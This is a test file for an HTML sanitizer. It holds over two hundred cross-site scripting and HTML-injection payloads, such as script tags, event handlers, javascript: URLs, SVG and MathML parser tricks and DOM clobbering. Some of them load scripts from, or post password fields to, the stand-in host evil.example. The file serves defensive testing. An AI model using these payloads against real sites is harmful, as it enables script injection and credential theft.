import { describe, expect, test } from 'vitest';
import { assertSafe } from './safe-language.fixture.ts';
import { sanitizeHtml } from './sanitize.ts';

const run = 'alert(1)';
/** Ways in which HTML has been made to run script, load, overlay or trick; each must come out in the safe language. */
const attacks: readonly string[] = [
  // plain script and its spellings
  `<script>${run}</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${run}</script>`, `<script/xss>${run}</script>`, `<<script>${run}//<</script>`, `<script\x20type="text/javascript">${run};</script>`,
  `<script\0>${run}</script>`, `<s\0cript>${run}</s\0cript>`, `<script>/*<b>*/${run}</script x>`, `<script>`, `<script `, `</script><script>${run}</script>`, `<script><!--<script></script>${run}--></script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // handlers
  `<img src=x onerror=${run}>`, `<img src="x"onerror=${run}>`, `<img/src/onerror=${run}>`, `<img src=x OnErRoR=${run}>`, `<img src=x onerror\x09=${run}>`, `<img src=x onerror&#61;${run}>`, `<img src='x' x='' onerror=${run} y=''>`, '<img src=`x`onerror=alert(1)>',
  `<body onload=${run}>`, `<p onclick=${run}>x</p>`, `<div onmouseover="${run}">x</div>`, `<a href="https://ok.example" onfocus=${run} autofocus>x</a>`, `<details open ontoggle=${run}>x</details>`, `<video src=x onloadstart=${run}></video>`, `<audio src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`, `<marquee onstart=${run}>x</marquee>`, `<input autofocus onfocus=${run}>`, `<select onfocus=${run} autofocus>`, `<textarea autofocus onfocus=${run}>`, `<x onclick=${run}>x`, `<style onload=${run}></style>`, `<svg onload=${run}>`, `<svg/onload=${run}>`,
  // addresses that run
  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="java\nscript:${run}">x</a>`, `<a href="java&#10;script:${run}">x</a>`, `<a href="java&Tab;script:${run}">x</a>`, `<a href="&#106;&#97;vascript:${run}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61script:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="\x01javascript:${run}">x</a>`, `<a href="&#1;javascript:${run}">x</a>`, `<a href="javascript://%0a${run}">x</a>`, `<a href=javascript:${run}>x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `<a href="blob:https://ok.example/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="view-source:javascript:1">x</a>`,
  `<a href="feed:javascript:${run}">x</a>`, `<a href="jar:https://x!/y">x</a>`, `<a href="\\\\javascript:${run}">x</a>`, `<a href="intent://x#Intent;scheme=javascript;end">x</a>`, `<a xlink:href="javascript:${run}">x</a>`, `<img src="javascript:${run}">`, `<img dynsrc="javascript:${run}">`, `<img lowsrc="javascript:${run}">`,
  `<img srcset="javascript:${run} 1x">`, `<img data-src="javascript:${run}">`, `<picture><source srcset="javascript:${run}"><img></picture>`, `<video poster="javascript:${run}" src="javascript:1"></video>`, `<video><source src="javascript:${run}"></video>`, `<iframe src="javascript:${run}"></iframe>`,
  `<iframe data-src="javascript:${run}"></iframe>`, `<blockquote cite="javascript:${run}">x</blockquote>`, `<q cite="javascript:${run}">x</q>`, `<table background="javascript:${run}"><tr><td>1<td>2</table>`, `<body background="javascript:${run}">`, `<a ping="https://evil.example" href="https://ok.example">x</a>`,
  `<img src="data:image/svg+xml;base64,${'PHN2Zz4='.repeat(40)}">`, `<img src="data:text/html;base64,${'PHN2Zz4='.repeat(40)}">`, `<img src="data:image/png,${'a'.repeat(300)}<script>">`, `<img src="data:image/png;base64,${'A'.repeat(50_000)}">`,
  // hosts and users that are not what they seem
  `<iframe src="https://www.youtube.com.evil.example/embed/abcdefgh"></iframe>`, `<iframe src="https://evil.example/?www.youtube.com/embed/abcdefgh"></iframe>`, `<iframe src="https://www.youtube.com@evil.example/embed/abcdefgh"></iframe>`, `<iframe src="//evil.example\\@www.youtube.com/embed/abcdefgh"></iframe>`,
  `<iframe src="/\\evil.example/embed"></iframe>`, `<a href="//\\evil.example">x</a>`, `<a href="/\\evil.example">x</a>`, `<a href="https://user:password@ok.example/">x</a>`, `<figure class="embed"><a href="https://evil.example/">x</a></figure>`, `<figure class="embed evil"><a href="https://youtu.be/abc">x</a></figure>`,
  // frames, objects, forms, heads
  `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<iframe src="about:blank" srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`, `<iframe name="top" src="https://x.example" allow="camera" onload=${run}></iframe>`, `<object data="javascript:${run}"></object>`, `<object data="https://evil.example/x.swf"><param name=movie value=x></object>`,
  `<embed src="javascript:${run}">`, `<applet code=x>x</applet>`, `<form action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`, `<form action=https://evil.example><input name=password><input type=image src=x onerror=${run}></form>`, `<button form=x formaction=javascript:${run}>x</button>`,
  `<isindex action="javascript:${run}" type=submit>`, `<base href="javascript:${run}//">`, `<base href="https://evil.example/"><a href="/x">x</a>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta charset=utf-7>+ADw-script+AD4-`, `<link rel=stylesheet href="javascript:${run}">`, `<link rel=import href=https://evil.example>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`, `<portal src="javascript:${run}"></portal>`, `<dialog open onclose=${run}>x</dialog>`, `<math><maction actiontype="statusline#https://x" xlink:href="javascript:${run}">x</maction></math>`,
  // foreign content and parsers that disagree
  `<svg><script>${run}</script></svg>`, `<svg><script xlink:href="data:,${run}"/></svg>`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<svg><animate attributeName=href values="javascript:${run}"/></svg>`, `<svg><set attributeName=onmouseover to=${run}></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>"></path></textarea></mtext></svg></mglyph></table></mi></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg><title><style><img src="</style><img src=x onerror=${run}>">`, `<svg><desc><style></desc><img src=x onerror=${run}></style>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`, `<noembed><img src=x onerror=${run}></noembed>`, `<noembed><p title="</noembed><img src=x onerror=${run}>">`, `<noframes><img src=x onerror=${run}></noframes>`, `<xmp><img src=x onerror=${run}></xmp>`, `<xmp></xmp><img src=x onerror=${run}></xmp>`,
  `<plaintext><img src=x onerror=${run}>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<textarea><img src=x onerror=${run}></textarea>`, `<textarea></textarea><img src=x onerror=${run}></textarea>`, `<title><img src=x onerror=${run}></title>`, `<title></title><img src=x onerror=${run}></title>`, `<template><img src=x onerror=${run}></template>`,
  `<select><option><style><img src=x onerror=${run}></style></select>`, `<select><button><selectedcontent><img src=x onerror=${run}></selectedcontent></button></select>`, `<selectedcontent><img src=x onerror=${run}>`, `<iframe><img src=x onerror=${run}></iframe>`, `<iframe></iframe><img src=x onerror=${run}></iframe>`, `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`, `<!--><img src=x onerror=${run}>-->`, `<!---><img src=x onerror=${run}>-->`, `<!--a--!><img src=x onerror=${run}>-->`, `<!-- --!> <script>${run}</script> -->`, `<?xml version="1.0"?><script>${run}</script>`, `<!doctype html [<!ENTITY x "<script>">]>&x;`, `<!x <img src=x onerror=${run}>`,
  `<table><tr><td><table><tr><td><img src=x onerror=${run}></table></table>`, `<table><a href="javascript:${run}">x</a><tr><td>1<td>2</table>`, `<table><script>${run}</script><tr><td>1</table>`, `<a><b><table><a href=javascript:${run}>x</table></b></a>`, `<p><a href="https://x.example/"><svg><p><a href=javascript:${run}>y`,
  // entities, quotes and spaces
  `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`, `<img alt="&quot; onerror=${run} x=&quot;" src=a.png>`, `<img alt='" onerror=${run} x="' src=a.png>`, `<img alt="<script>${run}</script>" src=a.png>`, `<abbr title="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">x</abbr>`,
  `<a href='https://ok.example/"onmouseover="${run}'>x</a>`, `<a href="https://ok.example/&quot;onmouseover=&quot;${run}">x</a>`, `<time datetime='"><script>${run}</script>'>x</time>`, `<p lang='en" onclick="${run}'>x</p>`, `<p dir='rtl" onclick="${run}'>x</p>`, `<ol start='1" onclick="${run}'><li>x</ol>`, `<td colspan='2"onclick=1'>x`,
  `<a href="https://ok.example/<script>${run}</script>">x</a>`, `<img src="https://ok.example/a.png?x=<script>" alt=x>`, `<div\x0bonclick=${run}>x</div>`, `<div\x0conclick=${run}>x</div>`, `<a/href="javascript:${run}"/>x</a>`, `<img src="x" alt="\u2028<script>">`, `\ud800<script>${run}</script>\udc00`,
  // style, overlays, clobbering
  `<p style="background:url(javascript:${run})">x</p>`, `<div style="position:fixed;inset:0">x</div>`, `<p style="width:expression(${run})">x</p>`, `<style>@import "https://evil.example/x.css";</style>`, `<style><!--</style><img src=x onerror=${run}>-->`, `<p class="modal open">x</p>`, `<form id=document><input name=cookie></form>`,
  `<img name=currentScript src=a.png>`, `<a id=location href="https://evil.example/">x</a>`, `<a id=x><a id=x name=y href="https://evil.example/">z</a>`, `<p id="__proto__">x</p>`, `<p __proto__=x constructor=y>x</p>`, `<__proto__>x</__proto__>`, `<constructor>x</constructor>`, `<toString onclick=1>x</toString>`,
  `<p contenteditable autofocus tabindex=1 accesskey=x is=y slot=z part=q popover popovertarget=p inert nonce=1 draggable=true translate=no itemprop=x data-x=1 aria-label=y role=button>x</p>`, `<a href="https://ok.example" target=_top rel=opener download referrerpolicy=unsafe-url>x</a>`, `<img src=a.png usemap=#m ismap crossorigin referrerpolicy=unsafe-url sizes=auto fetchpriority=high><map name=m><area href=javascript:${run}></map>`,
  // formulas, footnotes, languages of code, embeds: what was let in
  `<math><mi onclick=${run} href="javascript:${run}" style="x" class=y id=z>x</mi></math>`, `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi></math>`, `<math><mtext><img src=x onerror=${run}></mtext></math>`, `<math><mi><script>${run}</script></mi></math>`,
  `<math><mtext></mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=${run}>">`, `<math><mi></math><img src=x onerror=${run}></mi>`, `<math alttext='"><script>${run}</script>'><mi>x</mi></math>`, `<math><annotation encoding="application/x-tex">"><img src=x onerror=${run}></annotation><mi>x</mi></math>`,
  `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></semantics></math>`, `<math><mfenced open="<script>" close='"onclick=1' separators="<>&"><mi>a</mi><mi>b</mi></mfenced></math>`, `<math><malignmark><mi>&lt;img src=x onerror=${run}&gt;</mi></math>`,
  `<math><mpadded width="expression(${run})" height="1px;x" lspace='"onclick=1'><mi>x</mi></mpadded></math>`, `<math><mtext>&lt;/mtext&gt;&lt;/math&gt;&lt;script&gt;${run}&lt;/script&gt;</mtext></math>`, `<math><p><mi>x</mi></p></math>`, `<math><table><tr><td><mi>x</mi></table></math>`, `<math><math><mi>x</mi></math></math>`,
  `<script type="math/tex">"><img src=x onerror=${run}></script>`, `<script type="math/tex; mode=display">${run}</script>`, `<script type="math/texas" src="https://evil.example/x.js"></script>`, `<span class="katex" onclick=${run}><span class="katex-mathml"><math><mi>x</mi></math></span></span>`,
  `<a href="#x">1</a><p id="x" onclick=${run}>y</p>`, `<a href='#"onclick=${run}'>1</a><p id='"onclick=${run}'>y</p>`, `<a href="#<script>">1</a><p id="<script>">y</p>`, `<a href="#__proto__">1</a><p id="__proto__">y</p>`, `<a href="#location">1</a><a id="location" name="location">y</a>`, `<a href="#%">1</a><p id="%">y</p>`,
  `<a href="#note-x">1</a><p id="note-x">y</p><p id="note-x">z</p>`, `<a href="#a&#10;b">1</a><p id="a&#10;b">y</p>`, `<a href="javascript:${run}#x">1</a><p id=x>y</p>`, `<a href="https://evil.example/#x">1</a><p id=x>y</p>`, `<a href="#x:~:text=y">1</a><p id="x:~:text=y">y</p>`,
  `<pre class="language-x onclick=${run}">x</pre>`, `<pre class='language-"onclick=${run}'>x</pre>`, `<code class="language-js" onclick=${run}>x</code>`, `<pre data-lang='"><script>${run}</script>'>x</pre>`, `<table><tr><td class=gutter>1<td class=code><img src=x onerror=${run}></table>`,
  `<blockquote class="twitter-tweet" cite="javascript:${run}">x</blockquote>`, `<blockquote class="instagram-media" data-instgrm-permalink='https://ok.example/"onclick=${run}'>x</blockquote>`, `<blockquote class="bluesky-embed" data-bluesky-uri="at://did:plc:x/app.bsky.feed.post/<script>">x</blockquote>`, `<blockquote class="embed evil">x</blockquote>`,
  `<div class="fb-post" data-href="javascript:${run}"></div>`, `<lite-youtube videoid='"onclick=${run}'></lite-youtube>`, `<amp-youtube data-videoid="../../evil"></amp-youtube>`, `<amp-facebook data-href="data:text/html,x"></amp-facebook>`, `<video-js data-account='"><script>' data-video-id=x></video-js>`, `<div class="flourish-embed" data-src="javascript:visualisation/1"></div>`,
  `<script src="https://gist.github.com/x/1.js?<script>"></script>`, `<script data-telegram-post="x/1' onclick=${run}"></script>`, `<object data="javascript:${run}"><embed src="javascript:${run}"></object>`, `<object data="https://www.youtube.com/v/AbCdEfGhIjK"><param name=onload value=${run}></object>`,
  `<figure class="embed"><a href="https://www.youtube.com/watch?v=AbCdEfGhIjK" onclick=${run}><img src=x onerror=${run}></a></figure>`, `<figure class="embed"><a href="https://youtu.be/x">a</a><a href="https://evil.example/">b</a></figure>`, `<figure><iframe src="https://www.youtube.com/embed/AbCdEfGhIjK" title='"><script>${run}</script>'></iframe></figure>`,
  `<noscript><iframe src="javascript:${run}" onload=${run}></iframe></noscript>`, `<img src="data:," data-x="javascript:${run}.png"><img data-y='"onerror=${run} .png'>`, `<img src=a.png width='1"onerror=${run}' height=9>`, `<aside class="pull" onclick=${run}>x</aside>`, `<div class="pullquote" style="position:fixed">x</div>`,
];

describe('sanitizeHtml against attacks', () => {
  test('knows at least two hundred of them', () => expect(attacks.length).toBeGreaterThanOrEqual(200));

  test.each(attacks.map((attack) => [attack.slice(0, 100), attack]))('%s', (_, attack) => {
    for (const html of [attack, `<p>before</p>${attack}<p>after</p>`, `<div><a href="https://ok.example/">${attack}</a></div>`, `<table><tr><td>1<td>${attack}</table>`, `<ul><li>${attack}`, `<pre>${attack}`, `<h1>${attack}`, `<svg>${attack}`, `<select>${attack}`]) {
      for (const baseUrl of ['https://base.example/dir/page', undefined]) {
        const safe = sanitizeHtml(html, { baseUrl });
        assertSafe(safe);
        expect(sanitizeHtml(safe, { baseUrl })).toBe(safe);
      }
    }
  });

  test('keeps the text around', () => {
    expect(sanitizeHtml(`<p>before<script>${run}</script></p><p>after</p>`)).toBe('<p>before</p><p>after</p>');
  });

  test('an address cannot leave the base by a backslash', () => {
    expect(sanitizeHtml('<a href="/\\evil.example">x</a>', { baseUrl: 'https://base.example/' })).toBe('<a href="https://evil.example/" rel="noopener noreferrer nofollow">x</a>');
  });

  test('the strict reader itself refuses what is unsafe', () => {
    for (const bad of ['<script>', '<p onclick="x">y</p>', '<a href="javascript:1">x</a>', '<p>x', 'a < b', '<img src="data:text/html,x">', '<p style="x">y</p>', '&nbsp;', '<p title=x>y</p>', '<p>x</div>']) expect(() => assertSafe(bad)).toThrow();
  });
});
